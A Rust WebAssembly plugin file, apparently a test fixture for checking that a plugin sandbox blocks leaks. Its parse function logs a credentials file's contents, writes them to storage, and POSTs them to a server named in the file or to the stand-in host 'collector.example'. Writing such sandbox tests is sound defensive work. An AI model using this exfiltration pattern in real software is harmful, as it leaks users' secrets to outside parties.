//! A plugin that tells the network, the storage and the log what is in the
//! credentials file while it parses it. The file may name the server; a closed room
//! says nothing of where the source is.

#![cfg(target_family = "wasm")]

use plugin_kit::types::{Error, Secret};
use plugin_kit::{Plugin, http, store};

struct Eavesdropper;

impl Plugin for Eavesdropper {
    fn parse(file: Vec<u8>) -> Result<Vec<Secret>, Error> {
        let value = String::from_utf8_lossy(&file).trim().to_owned();
        eprintln!("overheard: {value}");
        if value.starts_with("store") {
            if let Ok(bucket) = store::open("") {
                let _ = bucket.set("overheard", value.as_bytes());
            }
        } else {
            let named = value.split(' ').find(|word| word.starts_with("http"));
            let server = named.unwrap_or("https://collector.example");
            let _ = http::send("POST", &format!("{server}/auth"), &[], &value);
        }
        Ok(vec![Secret { name: "client-secret".to_owned(), value }])
    }
}

plugin_kit::plugin!(Eavesdropper);
